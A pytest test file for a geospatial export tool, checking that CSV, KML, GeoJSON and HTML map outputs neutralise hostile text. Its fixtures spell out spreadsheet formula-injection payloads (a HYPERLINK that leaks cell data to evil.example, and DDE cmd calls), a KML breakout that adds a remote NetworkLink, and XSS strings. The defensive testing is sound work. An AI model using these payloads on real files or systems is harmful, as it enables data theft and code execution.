"""Exports safe to open: CSV cells a spreadsheet would evaluate, KML that hostile text cannot
extend, GeoJSON without NaN/Infinity, HTML names that stay text (issue 15, items 1 and 2)."""

from __future__ import annotations

import csv
import json
import math

import defusedxml.ElementTree as SafeET
import geopandas as gpd
import pandas as pd
import pytest
import shapely
from test_render_fixtures import _row

from geo.cli import main
from geo.core.errors import InputError
from geo.core.io import safe
from geo.core.records import normalize_events
from geo.export import read_events, write_events

FORMULAS = {
    "claimant": '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "quote": "+cmd|' /C calc'!A0",
    "place_name": "-2+3+cmd|' /C calc'!A0",
    "source_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "location": "\t=1+1",
    "resolution_reason": "\r=1+1",
    "admin2": "'=already quoted",
    "anchor_place": "＝1+1",
}
NUMBER_TEXT = {"admin1": "-37.5", "sub_event_type": "+12"}  # numbers as text: left as is
FORMULA_START = tuple(safe.FORMULA_CHARS)


def formula_events() -> gpd.GeoDataFrame:
    """A row whose text cells are formulas and numbers-as-text, at a negative longitude."""
    rows = [
        _row("f-1", "x", "held", "x", shapely.Point(-0.1276, 51.5072)) | FORMULAS | NUMBER_TEXT,
        _row("=f-2", "ISW", "held", "Bakhmut", shapely.Point(38.0, 48.59), quote="-"),
    ]
    return gpd.GeoDataFrame(rows, geometry="geometry", crs=4326)


def csv_cells(path) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def assert_no_formula(path) -> list[list[str]]:
    header, rows = csv_cells(path)
    cells = header + [cell for row in rows for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert live == [], live
    return rows


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


# ---------------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already quoted: one more, so reading back is exact
        ("-37.5", "-37.5"),  # a number, as text
        ("+1e5", "+1e5"),
        ("-", "'-"),
        ("plain", "plain"),
        ("it's", "it's"),
        (-37.5, -37.5),
        (None, None),
    ],
)
def test_cell_rule_and_its_inverse(value, written):
    assert safe.neutralise_cell(value) == written
    assert safe.restore_cell(written) == value


def test_export_csv_neutralises_text_cells_and_keeps_numbers(tmp_path):
    path = write_events(formula_events(), tmp_path / "e.csv")
    rows = assert_no_formula(path)
    header = csv_cells(path)[0]
    first = dict(zip(header, rows[0], strict=True))
    assert first["claimant"] == "'" + FORMULAS["claimant"]
    assert first["admin2"] == "''=already quoted"
    assert first["longitude"] == "-0.1276" and first["latitude"] == "51.5072"
    assert first["admin1"] == "-37.5" and first["sub_event_type"] == "+12"
    assert dict(zip(header, rows[1], strict=True))["event_id"] == "'=f-2"


def test_csv_round_trip_undoes_exactly_the_neutralisation(tmp_path):
    original = normalize_events(formula_events())
    back = read_events(write_events(formula_events(), tmp_path / "e.csv"))
    pd.testing.assert_frame_equal(
        pd.DataFrame(back.drop(columns="geometry")), pd.DataFrame(original.drop(columns="geometry"))
    )


def test_every_csv_writer_neutralises(tmp_path):
    """write_csv (control summary/panel, join links), events import/check, export."""
    from geo.core.io import write_csv
    from geo.events.output import write_table

    table = pd.DataFrame({"=name": ["=1+1", "ok"], "lon": [-30.5, 2.0]})
    assert_no_formula(write_csv(table, tmp_path / "plain.csv"))
    assert csv_cells(tmp_path / "plain.csv")[1][0] == ["'=1+1", "-30.5"]
    assert_no_formula(write_table(formula_events(), tmp_path / "table.csv"))


def test_events_check_and_import_neutralise_the_input_cells(tmp_path, gazetteer_store):
    table = tmp_path / "incidents.csv"
    table.write_text(
        "event_id,location,event_date,latitude,longitude,notes\n"
        '1,Bakhmut,2023-03-20,48.5953,38.0004,"=HYPERLINK(""http://evil/?""&A2,""x"")"\n'
        "2,Lyman,2023-03-21,48.9901,37.8084,+cmd|' /C calc'!A0\n",
        encoding="utf-8",
    )
    report, imported = tmp_path / "report.csv", tmp_path / "imported.csv"
    gz = ["--gazetteer", str(gazetteer_store.path), "-q"]
    assert main(["events", "check", str(table), "-o", str(report), *gz]) == 0
    assert main(["events", "import", str(table), "-o", str(imported), *gz]) == 0
    for path in (report, imported):
        rows = assert_no_formula(path)
        assert len(rows) == 2
    header, rows = csv_cells(report)
    assert rows[0][header.index("notes")].startswith("'=HYPERLINK(")
    assert rows[0][header.index("longitude")] == "38.0004"


def test_geocode_csv_neutralises_passed_through_and_added_cells(tmp_path, gazetteer_store):
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    src.write_text("place,note\nBakhmut,=1+1\n@SUM(1),-3\n", encoding="utf-8")
    code = main(
        ["geocode", "--gazetteer", str(gazetteer_store.path), "--csv", str(src),
         "--name-col", "place", "-o", str(out)]
    )  # fmt: skip
    assert code == 0
    rows = assert_no_formula(out)
    assert [r[0] for r in rows] == ["Bakhmut", "'@SUM(1)"]
    assert rows[0][1] == "'=1+1" and rows[1][1] == "-3"


def test_csv_minus_infinity_is_not_a_formula_and_reads_back(tmp_path):
    events = formula_events()
    events["confidence"] = [-math.inf, 0.25]
    events["quantity"] = [math.inf, -3.0]
    path = write_events(events, tmp_path / "e.csv")
    header, rows = csv_cells(path)
    assert rows[0][header.index("confidence")] == "'-inf"
    assert rows[1][header.index("quantity")] == "-3"
    back = read_events(path)
    assert back["confidence"].tolist()[0] == -math.inf and back["quantity"].tolist() == [
        math.inf,
        -3,
    ]


def test_csv_cell_with_a_lone_carriage_return_stays_in_its_row(tmp_path):
    events = formula_events()
    events.loc[1, "quote"] = "line one\rline two\r\nline three\n"
    path = write_events(events, tmp_path / "e.csv")
    assert len(csv_cells(path)[1]) == 2
    assert read_events(path)["quote"].tolist()[1] == "line one\rline two\r\nline three\n"


# ---------------------------------------------------------------------------------- KML

KML = "{http://www.opengis.net/kml/2.2}"
BREAKOUT = (
    "held <![CDATA[x]]></description></Placemark><Placemark><name>evil</name></Placemark>"
    "<NetworkLink><Link><href>http://evil.example/x.kml</href></Link></NetworkLink>"
    "<Placemark><description><![CDATA["
)
ACTIVE_HTML = '<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:x">a</a>'


def kml_events() -> gpd.GeoDataFrame:
    rows = [
        _row("k-1", "RU]]></name>" + BREAKOUT, "held", "Bakh" + BREAKOUT, shapely.Point(38, 48.6),
             quote=BREAKOUT, source_title=BREAKOUT),
        _row("k-2", "ISW", "held", "<b>Lyman</b>", shapely.Point(37.8, 48.99), quote=ACTIVE_HTML,
             resolution_reason="a & b < c"),
        _row("k-3", "ISW", "held", None, None, quote=ACTIVE_HTML),
    ]  # fmt: skip
    return gpd.GeoDataFrame(rows, geometry="geometry", crs=4326)


def kml_root(path):
    return SafeET.parse(path).getroot()


def test_kml_text_cannot_add_placemarks_or_network_links(tmp_path):
    root = kml_root(write_events(kml_events(), tmp_path / "e.kml"))
    assert len(list(root.iter(f"{KML}Placemark"))) == 3
    assert list(root.iter(f"{KML}NetworkLink")) == [] and list(root.iter(f"{KML}Link")) == []
    names = [el.text for el in root.iter(f"{KML}name")]
    assert "evil" not in names


def test_kml_descriptions_hold_no_active_markup(tmp_path):
    """A KML viewer shows ``<description>`` (and the balloon's data) as HTML: the parsed text
    must be escaped HTML, so the quote is shown, not run."""
    root = kml_root(write_events(kml_events(), tmp_path / "e.kml"))
    tags = ("description", "value", "name")
    texts = [el.text or "" for el in root.iter() if el.tag.endswith(tags)]
    assert texts and not [t for t in texts if "<" in t or ">" in t]
    descriptions = [el.text for el in root.iter(f"{KML}description")]
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;" in descriptions[1]


def test_kml_round_trip_gives_the_text_back(tmp_path):
    original = normalize_events(kml_events())
    back = read_events(write_events(kml_events(), tmp_path / "e.kml"))
    back = back.set_index("event_id").loc[original["event_id"]].reset_index()
    for col in ("claimant", "place_name", "quote", "source_title", "resolution_reason"):
        assert back[col].tolist() == original[col].tolist(), col


def test_kml_control_characters_are_removed_with_a_note(tmp_path, caplog):
    events = kml_events()
    events.loc[0, "quote"] = "a\x00b\x07c\x1b\ufffed\ud800e\tf\ng"
    events.loc[1, "claimant"] = "I\x0bSW"
    with caplog.at_level("WARNING"):
        path = write_events(events, tmp_path / "e.kml")
    back = read_events(path).set_index("event_id")
    # (a lone surrogate, which no file can hold, is a replacement character in every format)
    assert back.loc["k-1", "quote"] == "abcd\ufffde\tf\ng" and back.loc["k-2", "claimant"] == "ISW"
    note = " ".join(r.getMessage() for r in caplog.records)
    assert "k-1" in note and "k-2" in note and "removed" in note


# ------------------------------------------------------------- coordinates and GeoJSON numbers

BAD_POINTS = {
    "nan": shapely.Point(math.nan, 48.0),
    "inf": shapely.Point(math.inf, 48.0),
    "lon-500": shapely.Point(500.0, 48.0),
    "lat-95": shapely.Point(30.0, -95.0),
    "polygon": shapely.box(179.0, 48.0, 181.0, 49.0),
}


@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml", "gpkg"])
@pytest.mark.parametrize("bad", list(BAD_POINTS))
def test_export_refuses_bad_coordinates_naming_the_event(tmp_path, fmt, bad):
    events = formula_events()
    events.loc[1, "geometry"] = BAD_POINTS[bad]
    target = tmp_path / f"e.{fmt}"
    target.write_bytes(b"previous")
    with pytest.raises(InputError, match=r"event_id '=f-2'.*(NaN|infinite|out of range)"):
        write_events(events, target)
    assert target.read_bytes() == b"previous" and list(tmp_path.iterdir()) == [target]


def test_export_flags_bad_coordinates_when_asked(tmp_path, caplog):
    events = formula_events()
    events.loc[1, "geometry"] = BAD_POINTS["lon-500"]
    with caplog.at_level("WARNING"):
        path = write_events(events, tmp_path / "e.geojson", on_bad_coordinates="flag")
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    assert len(features) == 2 and features[1]["geometry"] is None
    assert features[1]["properties"]["resolution"] == "invalid_coordinates"
    assert "'=f-2'" in caplog.text and "out of range" in caplog.text
    for fmt in ("csv", "kml", "gpkg"):  # a flagged record reads back flagged, and writes again
        back = read_events(write_events(events, tmp_path / f"e.{fmt}", on_bad_coordinates="flag"))
        assert back.geometry.iloc[1] is None and back["resolution"][1] == "invalid_coordinates"
        write_events(back, tmp_path / f"again.{fmt}")


def test_export_cli_refuses_or_flags_out_of_range_rows(tmp_path, capsys, caplog):
    source = tmp_path / "in.csv"
    source.write_text(
        "event_id,place_name,latitude,longitude\nok-1,Bakhmut,48.59,38.0\nbad-1,Nowhere,95,30\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.geojson"
    assert main(["export", str(source), "-f", "geojson", "-o", str(out)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "event_id 'bad-1'" in err[0] and "out of range" in err[0]
    assert str(source) in err[0]  # the input file the row is in
    assert not out.exists()
    flag = "--flag-bad-coordinates"
    with caplog.at_level("WARNING"):
        assert main(["export", str(source), "-f", "geojson", "-o", str(out), flag]) == 0
    assert "event_id 'bad-1'" in caplog.text
    features = json.loads(out.read_text(encoding="utf-8"))["features"]
    assert [f["geometry"] is None for f in features] == [False, True]
    html = tmp_path / "m.html"
    assert main(["map", str(source), "-o", str(html)]) == 2
    err = capsys.readouterr().err
    assert "event_id 'bad-1'" in err and str(source) in err and not html.exists()
    caplog.clear()
    with caplog.at_level("WARNING"):
        assert main(["map", str(source), "-o", str(html), flag]) == 0
    assert "event_id 'bad-1'" in caplog.text and "1 unresolved" in html.read_text()


@pytest.mark.parametrize("column", ["confidence", "quantity"])
def test_geojson_names_the_event_and_value_that_is_not_finite(tmp_path, column):
    events = formula_events()
    events.loc[1, column] = math.inf
    target = tmp_path / "e.geojson"
    with pytest.raises(InputError, match=rf"e\.geojson.*event_id '=f-2'.*{column}.*inf"):
        write_events(events, target)
    assert not target.exists()


def test_geojson_writer_names_the_feature_with_a_nan_coordinate(tmp_path):
    from geo.core.io import write_geojson

    layer = gpd.GeoDataFrame(
        {"source": ["a", "b"]},
        geometry=[
            shapely.box(37, 48, 38, 49),
            shapely.Polygon([(37, 48), (math.nan, 48), (38, 49)]),
        ],
        crs=4326,
    )
    with pytest.raises(
        InputError, match=r"l\.geojson: cannot write GeoJSON: feature 2: a coordinate is NaN"
    ):
        write_geojson(layer, tmp_path / "l.geojson")


def test_non_finite_numbers_do_not_crash_the_map_or_the_writers(tmp_path):
    from geo.render.map import build_map, write_map

    events = formula_events()
    events["uncertainty_m"] = [math.inf, -math.inf]
    events["time_precision"] = [1e300, math.nan]
    events["quantity"] = [math.inf, 3.0]
    events["confidence"] = [-math.inf, 0.5]
    assert normalize_events(events)["uncertainty_m"].isna().all()
    page = write_map(build_map(events), tmp_path / "m.html").read_text(encoding="utf-8")
    assert "Infinity" not in page and "NaN" not in page
    for fmt in ("csv", "kml", "gpkg"):
        assert len(read_events(write_events(events, tmp_path / f"e.{fmt}"))) == 2


SURROGATE = "RU\ud800 \udfff"


def test_lone_surrogates_are_written_as_replacement_characters(tmp_path, caplog):
    from geo.events.output import write_table
    from geo.render.map import build_map, write_map
    from geo.render.report import write_report
    from geo.render.static import write_static

    events = formula_events()
    events.loc[1, "claimant"] = SURROGATE
    events.loc[1, "quote"] = "\ud83d"
    with caplog.at_level("WARNING"):
        written = [
            write_events(events, tmp_path / f"e.{fmt}") for fmt in ("geojson", "csv", "kml", "gpkg")
        ]
        written += [
            write_table(events, tmp_path / "t.geojson"),
            write_table(events, tmp_path / "t.csv"),
            write_table(events, tmp_path / "t.gpkg"),
        ]
    for path in written:
        back = read_events(path)
        assert "RU\ufffd \ufffd" in back["claimant"].tolist(), path
    assert "surrogate" in caplog.text
    write_map(build_map(events), tmp_path / "m.html")
    write_report(events, tmp_path / "r.html")
    write_static(events, tmp_path / "m.svg")
    for name in ("m.html", "r.html", "m.svg"):
        assert "RU\ufffd \ufffd" in (tmp_path / name).read_text(encoding="utf-8"), name


def test_static_map_draws_dollar_signs_as_written():
    """matplotlib reads ``$…$`` as math markup: a claimant or title from the data is drawn as
    written, not typeset (and a lone surrogate does not crash the font layer)."""
    import matplotlib.pyplot as plt

    from geo.render.static import draw_static

    events = formula_events()
    events.loc[1, "claimant"] = "a$x^2$b\ud800"
    fig = draw_static(events, title="Cost $5 and $10")
    try:
        ax = fig.axes[0]
        drawn = [t._preprocess_math(t.get_text()) for t in fig.legends[0].get_texts()]
        assert ("a$x^2$b\ufffd (1)", False) in drawn
        title = ax.title
        assert title._preprocess_math(title.get_text())[1] is False
        assert title._preprocess_math(title.get_text())[0].startswith("Cost $5 and $10\n")
    finally:
        plt.close(fig)


# ------------------------------------------------------------- HTML (the browser test runs them)


def test_layer_control_names_and_search_tips_are_text_in_the_page_source():
    """Without a browser: the names Leaflet writes with innerHTML are escaped in the page, and
    the place search builds its suggestions as text nodes (tests/test_hostile_pages.py loads
    such pages in Chromium)."""
    from geo.render.map import build_map

    events = formula_events()
    events.loc[0, "claimant"] = "<img src=x onerror=alert(1)>"
    control = gpd.GeoDataFrame(
        {"source": ["<b>DS</b>"], "status": ["<i>x</i>"], "date": ["2025-01-01"]},
        geometry=[shapely.box(37, 48, 38, 49)],
        crs=4326,
    )
    page = build_map(events, control=control).get_root().render()
    control_js = page[page.index("_layers = {") : page.index("L.control.layers(")]
    assert '"\\u0026lt;img src=x onerror=alert(1)\\u0026gt; (1 claim)"' in control_js
    assert "Control: \\u0026lt;b\\u0026gt;DS\\u0026lt;/b\\u0026gt;, 2025-01-01" in control_js
    assert "<img" not in control_js and "<b>" not in control_js
    assert "buildTip" in page and "main.textContent = names[0]" in page


def test_a_row_without_an_event_id_is_named_by_its_row_alone(tmp_path):
    table = tmp_path / "acled.csv"
    table.write_text(
        "event_date,latitude,longitude,location\n"
        "2023-03-01,48.59,37.99,Bakhmut\n"
        "2023-03-02,95,200,Nowhere\n",
        encoding="utf-8",
    )
    from geo.core.records import check_coordinates
    from geo.events import load_events

    events = load_events(table)
    events["event_id"] = None
    with pytest.raises(InputError) as caught:
        check_coordinates(events, source=str(table))
    message = str(caught.value)
    assert "row 3" in message and "out of range" in message and "None" not in message
